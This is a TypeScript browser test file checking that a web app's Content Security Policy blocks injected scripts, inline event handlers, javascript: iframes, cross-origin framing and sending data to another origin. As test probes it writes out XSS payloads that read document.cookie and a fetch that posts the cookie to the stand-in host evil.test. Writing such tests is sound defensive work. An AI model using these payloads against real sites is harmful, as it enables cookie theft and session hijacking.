import { serveClient } from '../fixtures/cross-origin-client/serve.ts'
import { call } from '../support/https.ts'
import { expect, test } from '../support/fixtures.ts'
import { COOKIE_NAME, sessionPage, UUID } from '../support/session-page.ts'

const VIOLATION = /violates the following Content Security Policy directive/

test('a script that is injected into the HTML does not run', async ({ page, app, problems }) => {
  problems.expect(VIOLATION)
  const response = await call(`${app.origin}/`, { headers: { accept: 'text/html' } })
  const headers = { ...response.headers as Record<string, string>, 'set-cookie': '' }
  const body = response.body
    .replace(/<body[^>]*>/, tag => `${tag}<script>window.stolen = document.cookie</script>`)
    .replace('<h1', '<h1 onclick="window.stolen = 1"')
  expect(body).toMatch(/<script>window\.stolen[^]*onclick="window\.stolen/)
  await page.route('/', route => route.fulfill({ status: response.status, headers, body }))
  await page.goto('/')
  await expect(sessionPage(page).value).toHaveValue(UUID)
  await page.getByRole('heading', { level: 1 }).click()

  expect(await page.evaluate(() => 'stolen' in window)).toBe(false)
})

test('a script that is injected into the open page does not run', async ({ page, problems }) => {
  problems.expect(VIOLATION)
  await page.goto('/')
  await expect(sessionPage(page).value).toHaveValue(UUID)
  await page.evaluate(() => {
    const script = document.createElement('script')
    script.textContent = 'window.stolen = 1'
    document.body.append(script)
    const image = '<img src="data:," onerror="window.stolen = 1">'
    const frame = '<iframe src="javascript:parent.stolen = 1"></iframe>'
    document.body.insertAdjacentHTML('beforeend', image + frame)
  })

  await expect.poll(() => page.evaluate(() => 'stolen' in window)).toBe(false)
})

test('a script can neither read the cookie nor send anything to another origin', async ({ page, problems }) => {
  problems.expect(/connect-src/)
  problems.expect(/Refused to connect because it violates the document's Content Security Policy/)
  await page.goto('/')
  await expect(sessionPage(page).value).toHaveValue(UUID)
  const sent = await page.evaluate(() => {
    return fetch('https://evil.test/', { method: 'POST', body: document.cookie }).then(() => true, () => false)
  })

  expect(sent).toBe(false)
  expect(await page.evaluate(() => document.cookie)).not.toContain(COOKIE_NAME)
})

test('another origin cannot show a page in a frame', async ({ page, app, problems }) => {
  problems.expect(/frame-ancestors/)
  problems.allow(/ERR_CONNECTION_REFUSED/) // The client calls an API that does not run.
  const client = await serveClient(0)
  await page.goto(client.origin)
  await page.evaluate((source) => {
    const frame = document.createElement('iframe')
    frame.src = source
    document.body.append(frame)
    return new Promise(resolve => frame.addEventListener('load', resolve))
  }, app.origin)

  expect(await page.frames()[1]!.locator('body').innerText()).not.toContain('ticket')
  await client.close()
})
